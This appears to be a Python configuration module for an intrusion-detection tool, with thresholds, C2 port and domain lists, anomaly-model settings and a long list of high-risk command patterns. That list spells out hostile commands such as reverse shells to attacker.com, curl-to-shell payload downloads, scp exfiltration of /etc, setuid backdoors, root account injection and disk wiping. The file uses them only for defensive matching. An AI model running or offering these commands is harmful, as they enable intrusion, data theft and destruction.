"""Detection rules: thresholds, word lists and lookup tables.

Everything under "FIXED VALUES" must stay equal to the behaviour being
reproduced (same literals, same order); the operators read them from here
and never hard-code them.  Thresholds are plain parameters of the
operators, the values below are only their defaults.
"""

from __future__ import annotations

from dataclasses import dataclass, field

# ---------------------------------------------------------------------------
# FIXED VALUES (must equal the reproduced behaviour; kept in natural order)
# ---------------------------------------------------------------------------

OWN_IP = "192.168.154.133"

PORT_THRESHOLD = 5          # distinct ports / events per (source, port)
SYN_THRESHOLD = 15          # SYN packets per source (pair)
HIGH_MEMORY = 25.0          # memory % for the high-memory incident
OVER_LIMIT_CPU = 30.0       # over-limit candidate, CPU %
OVER_LIMIT_MEMORY = 25.0    # over-limit candidate, memory %

SCAN_PORTS_ALWAYS = 20      # a pair touching this many ports is a scan
SCAN_PORTS_BURST = 10       # ... or this many ports
SCAN_BURST_SECONDS = 300    # ... within this many seconds

C2_PORTS = [4444, 8080, 53, 1337, 8443]
C2_DOMAINS = ["pastebin.com", "github.io"]
C2_DOMAINS_EXTENDED = ["pastebin.com", "github.io", "azurewebsites.net", "ddns.net"]
C2_PROTOCOLS_EXTENDED = ["DNS", "HTTP", "ICMP", "HTTPS"]
C2_NIGHT_HOURS = (0, 5)     # inclusive hour range

EXFIL_BYTES = 1024 * 1024   # strictly greater than this many bytes
BEACON_MAX_GAP_SECONDS = 3600
INTERNAL_PREFIXES = ["10.", "192.168.", "172."]

CORRELATION_MINUTES = 5     # +- window of the process/network interval join
BUCKET_MINUTES = 5          # time bucket of the network behaviour join

COLLECTOR_PORTS = [22, 23, 80, 443, 8080]
ALERT_PORTS = [22, 23]

THREAT_TYPE_WEIGHTS = [("bruteforce", 70), ("scan", 50), ("ddos", 90)]
THREAT_KEYWORDS = ["rm -rf", "chmod 777", "wget", "curl", "nc ", "nmap", "sshpass"]
THREAT_KEYWORD_WEIGHT = 60
THREAT_RESOURCE_WEIGHT = 40  # CPU > 90 and Memory > 90
THREAT_CAP = 100
HIGH_THREAT_VIEW = 70
HIGH_THREAT_ALERT = 80

INCIDENT_KEYWORDS = ["nmap", "hydra", "metasploit", "sqlmap", "wget", "curl", "nc ", "sshpass"]

WHITELIST = [
    "python3 /tst.py",
    "python3 /script.py",
    "python3",
    "bash",
    "systemd",
    "sshd",
    "nginx",
    "apache2",
]
OVER_LIMIT_EXCLUSIONS = ["/tst.py", "/script.py"]

KNOWN_PROCESSES = [
    ("nmap", "Network scanning tool"),
    ("hydra", "Password cracking tool"),
    ("ssh", "Secure shell client"),
    ("wget", "File download utility"),
    ("curl", "Data transfer tool"),
    ("nc", "Netcat network utility"),
    ("python", "Python interpreter"),
    ("python3", "Python 3 interpreter"),
    ("bash", "Bourne-again shell"),
    ("systemd", "System service manager"),
]
HIGH_RISK_PROCESSES = ["nmap", "hydra"]
PROCESS_INFO_URLS = [
    ("ProcessLibrary", "https://www.processlibrary.com/en/search/?q={}"),
    ("File.net", "https://www.file.net/process/{}.html"),
]

TCP_FLAG_TEXT = [
    ("S", "SYN (Connection initiation)"),
    ("SA", "SYN-ACK (Connection established)"),
    ("FA", "FIN-ACK (Graceful termination)"),
    ("RA", "RST-ACK (Abrupt termination)"),
    ("PA", "PSH-ACK (Data transmission)"),
    ("F", "FIN (Connection termination)"),
    ("A", "ACK (Acknowledgement)"),
    ("R", "RST (Reset connection)"),
    ("P", "PSH (Push data)"),
    ("U", "URG (Urgent pointer)"),
]

THREAT_INTEL_SOURCES = [
    ("AbuseIPDB", "https://www.abuseipdb.com/check/"),
    ("VirusTotal", "https://www.virustotal.com/gui/ip-address/"),
    ("GreyNoise", "https://viz.greynoise.io/ip/"),
    ("Shodan", "https://www.shodan.io/host/"),
    ("Talos", "https://talosintelligence.com/reputation_center/lookup?search="),
]

ALERT_MIN_ANOMALY_SCORE = -0.8
ALERT_INTERVAL_HOURS = 4
ROLLING_ROWS = 5
TRAIN_HOURS = 168
DEFAULT_HOURS = 24
LATEST_N = 1000
TOP_N = 5
TOP_ANOMALIES = 10
RECENT_PER_SOURCE = 50

FOREST_TREES = 150
FOREST_MAX_SAMPLES = 256
FOREST_CONTAMINATION = 0.05
FOREST_SEED = 42

CATEGORICAL_FEATURES = ["user_name", "command", "s", "hashed_command"]
SCALED_FEATURES = ["cpu", "memory", "virt", "res", "shr", "time_used_seconds"]
ROLLING_FEATURES = ["cpu", "memory", "time_used_seconds"]
MODEL_FEATURES = [
    "cpu", "memory", "virt", "res", "shr", "time_used_seconds", "mem_ratio",
    "hour", "minute", "day_of_week", "command_frequency",
    "cpu_rolling_mean", "cpu_rolling_std",
    "memory_rolling_mean", "memory_rolling_std",
    "time_used_seconds_rolling_mean", "time_used_seconds_rolling_std",
    "user_name_encoded", "command_encoded", "s_encoded", "hashed_command_encoded",
]

PROCESS_CSV_HEADER = [
    "Timestamp", "PID", "User", "CPU", "Memory", "VIRT", "RES", "SHR", "S",
    "Time Used", "Command", "Hashed Command",
]
PROCESS_RENAMES = {"timestamp": "Timestamp", "Time Used": "Time_Used", "Hashed Command": "Hashed_Command"}

# Command lines containing any of these literals are reported by the
# collector (case-sensitive substring match, 135 entries incl. duplicates).
HIGH_RISK_COMMANDS = [
    "rm -rf", "chmod 777", "wget", "curl", "nc",
    "ncat", "ssh", "scp", "sudo", "passwd",
    "whoami", "id", "uname -a", "hostname", "ifconfig",
    "ip a", "netstat", "ss", "ps aux", "lsof",
    "cat /etc/passwd", "cat /etc/shadow", "find / -perm -4000",
    "tar czf", "scp", "rsync", "nc -e", "bash -i",
    "python3 -c", "perl -e", "echo '*/5 * * * *'",
    "systemctl enable", "shred -u", "history -c", "journalctl --vacuum-time=1s",
    "dd if=/dev/mem", "openssl enc", "mkfifo", 'rm -- "$0"',
    "crontab -l", "chattr -i", "ln -s", "useradd", "usermod",
    "iptables -F", "tcpdump", "strace", "ltrace", "scp -r",
    "dd if=/dev/sda", "gpg --decrypt", "nc -lvnp", "base64 -d",
    "echo 'bash -i >& /dev/tcp/'", "nohup", "nohup ./malware",
    "export HISTFILE=/dev/null", "unset HISTFILE", "kill -9",
    "pkill -f", "nohup rm -rf /", "dd if=/dev/zero",
    "mv /bin/bash /tmp/bash_hidden", "cp /bin/bash /tmp/shell && chmod +s /tmp/shell",
    "find / -type f -name '*.key'", "find / -type f -name '*.pem'",
    "iptables -A INPUT -p tcp --dport 22 -j DROP",
    "iptables -A OUTPUT -p tcp --dport 80 -j DROP",
    "iptables -P FORWARD DROP", "chmod u+s /bin/bash",
    "echo 'echo PWNED' > /usr/local/bin/malicious && chmod +x /usr/local/bin/malicious",
    "iptables-save", "iptables-restore", "nc -w",
    "tee /proc/sys/kernel/core_pattern", "dmesg | tail",
    "wget -qO- http://malicious.com/payload.sh | bash",
    "curl -fsSL http://malicious.com/install.sh | sh",
    "cat /dev/random > /dev/null", "strings /bin/bash",
    "openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -days 365 -nodes",
    "openssl s_client -connect attacker.com:443",
    "iptables -A INPUT -p tcp --dport 4444 -j ACCEPT",
    "nc -e /bin/sh attacker.com 4444", "scp -P 2222 file user@192.168.1.5:/tmp/",
    "echo 1 > /proc/sys/kernel/sysrq", "echo b > /proc/sysrq-trigger",
    "mv ~/.bashrc ~/.bashrc.bak", "cp /etc/hosts /tmp/.hidden_hosts",
    "dd if=/dev/random of=/dev/sda", "shred -n 35 -vz /dev/sda",
    "bash -c 'bash -i >& /dev/tcp/attacker.com/4444 0>&1'",
    "wget http://attacker.com/malware -O /tmp/malware && chmod +x /tmp/malware && /tmp/malware",
    "echo 'root::0:0:root:/root:/bin/bash' >> /etc/passwd",
    "echo 'root:password' | chpasswd", "ln -s /dev/null ~/.bash_history",
    "mv /var/log /var/.log_backup", "rm -rf ~/.ssh",
    "cat /var/log/auth.log | grep 'Accepted password'",
    "awk -F: '{print $1}' /etc/passwd", "du -ah / | grep 'password'",
    "journalctl --no-pager | grep 'authentication failure'",
    "find / -name '*.db' -exec sqlite3 {} '.dump' \\;",
    "rsync -avz /root attacker@192.168.1.100:/backup/",
    "scp -r /etc attacker@192.168.1.100:/loot/",
    "echo 0 > /proc/sys/kernel/randomize_va_space",
    "echo performance | tee /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor",
    "dd if=/dev/urandom of=/dev/sda bs=4M", "cat ~/.bash_history",
    "iptables -A OUTPUT -p tcp --dport 443 -j DROP",
    "cat /etc/resolv.conf", "systemctl stop firewalld",
    "systemctl stop ufw", "echo 'malicious script' > /dev/tcp/attacker.com/80",
    "cp /bin/sh /tmp/.backdoor && chmod +s /tmp/.backdoor",
    "iptables -I INPUT -s 192.168.1.100 -j ACCEPT",
    "iptables -A INPUT -p tcp --dport 80 -j DROP",
    "ufw disable", "firewall-cmd --permanent --zone=public --add-port=4444/tcp",
    "ip rule add from 192.168.1.100 table 1", "ip route add default via 192.168.1.1 table 1",
    "nohup nc -lvp 4444 -e /bin/bash &", "echo 1 > /proc/sys/net/ipv4/ip_forward",
    "sh -c 'nc -e /bin/bash attacker.com 4444'",
    "bash -c 'exec bash -i &>/dev/tcp/attacker.com/4444 0>&1'",
    "echo 'echo backdoor' > /etc/rc.local",
    "cp /etc/shadow /tmp/shadow_backup && chmod 777 /tmp/shadow_backup",
    "iptables -D INPUT -p tcp --dport 22 -j ACCEPT",
    "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT",
    "ssh -o StrictHostKeyChecking=no -i ~/.ssh/id_rsa user@attacker.com",
    "echo '*/1 * * * * root bash /tmp/malicious.sh' >> /etc/crontab",
    "chmod 000 /etc/passwd", "echo 0 > /proc/sys/net/ipv4/tcp_syncookies",
    "dd if=/dev/zero of=/dev/sda bs=1M count=500",
    "cp /bin/bash /tmp/bash_backdoor && chmod u+s /tmp/bash_backdoor",
]

# ---------------------------------------------------------------------------
# Derived values (computed from the fixed values above, never edited by hand)
# ---------------------------------------------------------------------------


def minimal_patterns(patterns: list[str]) -> list[str]:
    """Distinct patterns that do not contain another, shorter pattern.

    ``contains(x, long)`` implies ``contains(x, short)`` whenever ``short`` is a
    substring of ``long``, so an OR over this subset is the same predicate as an
    OR over all patterns, with fewer comparisons per row.
    """
    distinct = list(dict.fromkeys(patterns))
    return [p for p in distinct if not any(q != p and q in p for q in distinct)]


HIGH_RISK_MINIMAL = minimal_patterns(HIGH_RISK_COMMANDS)


@dataclass(frozen=True)
class Thresholds:
    """Run-time knobs of the detectors (defaults = fixed values above)."""

    own_ip: str = OWN_IP
    port_threshold: int = PORT_THRESHOLD
    syn_threshold: int = SYN_THRESHOLD
    high_memory: float = HIGH_MEMORY
    scan_ports_always: int = SCAN_PORTS_ALWAYS
    scan_ports_burst: int = SCAN_PORTS_BURST
    scan_burst_seconds: int = SCAN_BURST_SECONDS
    exfil_bytes: int = EXFIL_BYTES
    c2_ports: list[int] = field(default_factory=lambda: list(C2_PORTS))
